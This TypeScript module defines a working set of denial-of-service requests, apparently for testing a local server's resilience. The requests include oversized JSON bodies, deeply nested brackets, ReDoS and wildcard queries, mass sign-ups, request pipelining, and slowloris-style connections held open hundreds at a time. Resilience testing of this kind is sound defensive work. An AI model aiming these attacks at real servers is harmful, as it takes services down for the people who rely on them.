import { randomBytes, randomUUID } from 'node:crypto';
import http from 'node:http';
import net from 'node:net';

/** A server under attack, with the data that every visitor of it learns. */
export interface Target {
  url: string;
  key: string;
  /** The access token of the attacker's own account. */
  token: string;
}

/** A hostile request, which is sent again and again. */
export interface Attack {
  name: string;
  /** How many are on their way at one time. */
  concurrency: number;
  /** Sends it once. Returns the status, or `closed` when the server ends the connection. */
  send: (target: Target, signal: AbortSignal) => Promise<number | 'closed'>;
}

interface HostileRequest {
  path: string;
  method?: string;
  key?: string;
  token?: string;
  body?: string | Buffer;
}

const megabyte = 2 ** 20;

/** Returns one of the addresses of this machine that the attacker has. The user has another one. */
function anyAddress(): string {
  const [byte = 0] = randomBytes(1);
  return `127.0.1.${1 + (byte % 3)}`;
}

function send({ url }: Target, request: HostileRequest, signal: AbortSignal) {
  const { path, method = 'POST', key, token, body } = request;
  return new Promise<number | 'closed'>((resolve) => {
    const sent = http.request(`${url}${path}`, {
      method,
      signal,
      localAddress: anyAddress(),
      agent: false,
      headers: {
        'Content-Type': 'application/json',
        ...(key === undefined ? {} : { apikey: key }),
        ...(token === undefined ? {} : { Authorization: `Bearer ${token}` }),
      },
    });
    sent.on('response', (response) => {
      response.resume().on('close', () => resolve(response.statusCode ?? 0));
    });
    sent.on('error', () => resolve('closed'));
    sent.end(body);
  });
}

const signUp = (email: string) => JSON.stringify({ email, password: 'segredo-123' });
const newEmail = () => `${randomUUID()}@example.com`;
const largeEmail = Buffer.from(signUp('a'.repeat(6 * megabyte)));
const rows = Buffer.from(
  JSON.stringify(
    Array.from({ length: 10_000 }, () => ({ amount: -1, description: 'x'.repeat(50) })),
  ),
);
const endlessPattern = '%25a'.repeat(200);

/** Sends many requests ahead without reading their answers. */
function sendAhead({ url, key }: Target, signal: AbortSignal): Promise<'closed'> {
  const request = `GET /rest/v1/transactions HTTP/1.1\r\nHost: a\r\napikey: ${key}\r\n\r\n`;
  return holdOpen({ url }, request.repeat(50_000), signal);
}

/** Keeps a connection open without ever finishing the request. */
function holdOpen(
  { url }: Pick<Target, 'url'>,
  start: string,
  signal: AbortSignal,
): Promise<'closed'> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve) => {
    const socket = net.connect({ host: hostname, port: Number(port), localAddress: anyAddress() });
    socket.write(start);
    const drip = setInterval(() => socket.write('a'), 5000);
    const end = () => {
      clearInterval(drip);
      socket.destroy();
      resolve('closed');
    };
    for (const event of ['close', 'error']) socket.once(event, end);
    signal.addEventListener('abort', end);
    socket.resume();
  });
}

/** Sends a new e-mail address and a password to an endpoint of Auth. */
function authAttack(name: string, endpoint: string): Attack {
  return {
    name,
    concurrency: 4,
    send: (target, signal) => {
      const body = signUp(newEmail());
      return send(target, { path: `/auth/v1/${endpoint}`, key: target.key, body }, signal);
    },
  };
}

/** Requests that make the server use up memory, time or disk. */
export const attacks: Attack[] = [
  {
    name: 'an e-mail address of 6 MB without a key',
    concurrency: 2,
    send: (target, signal) => send(target, { path: '/auth/v1/signup', body: largeEmail }, signal),
  },
  {
    name: 'an e-mail address of 6 MB',
    concurrency: 2,
    send: (target, signal) =>
      send(target, { path: '/auth/v1/signup', key: target.key, body: largeEmail }, signal),
  },
  {
    name: '60,000 nested brackets without a session',
    concurrency: 4,
    send: (target, signal) =>
      send(
        target,
        { path: '/rest/v1/rpc/save_entry', key: target.key, body: '['.repeat(60_000) },
        signal,
      ),
  },
  {
    name: '7 MB of nested brackets with a session',
    concurrency: 2,
    send: (target, signal) =>
      send(
        target,
        { path: '/rest/v1/rpc/save_entry', ...target, body: '[]'.repeat(3.5 * megabyte) },
        signal,
      ),
  },
  {
    name: '10,000 invalid rows with a session',
    concurrency: 1,
    send: (target, signal) =>
      send(target, { path: '/rest/v1/transactions', ...target, body: rows }, signal),
  },
  authAttack('a sign-up', 'signup'),
  authAttack('a wrong password', 'token?grant_type=password'),
  authAttack('a request for a recovery link', 'recover'),
  {
    name: 'a regular expression',
    concurrency: 2,
    send: (target, signal) =>
      send(
        target,
        {
          path: '/rest/v1/transactions?category=imatch.(a%2B)%2B%24',
          method: 'GET',
          ...target,
        },
        signal,
      ),
  },
  {
    name: 'a pattern with 200 wildcards',
    concurrency: 2,
    send: (target, signal) =>
      send(
        target,
        {
          path: `/rest/v1/transactions?description=like.${endlessPattern}`,
          method: 'GET',
          ...target,
        },
        signal,
      ),
  },
  {
    name: 'a page',
    concurrency: 2,
    send: (target, signal) => send(target, { path: '/', method: 'GET' }, signal),
  },
  {
    name: 'a body that never ends',
    concurrency: 200,
    send: (target, signal) =>
      holdOpen(
        target,
        `POST /auth/v1/signup HTTP/1.1\r\nHost: a\r\napikey: ${target.key}\r\nContent-Length: 8000\r\n\r\n`,
        signal,
      ),
  },
  {
    name: 'a header that never ends',
    concurrency: 1000,
    send: (target, signal) => holdOpen(target, 'GET / HTTP/1.1\r\nHost: a\r\nX-A: ', signal),
  },
  {
    name: '50,000 requests ahead',
    concurrency: 4,
    send: sendAhead,
  },
  {
    name: '60 KB of a body that never ends',
    concurrency: 300,
    send: (target, signal) =>
      holdOpen(
        target,
        `POST /rest/v1/transactions HTTP/1.1\r\nHost: a\r\napikey: ${target.key}\r\nContent-Length: 64000\r\n\r\n${'a'.repeat(60_000)}`,
        signal,
      ),
  },
  {
    name: 'an idle connection',
    concurrency: 700,
    send: (target, signal) => holdOpen(target, '', signal),
  },
];
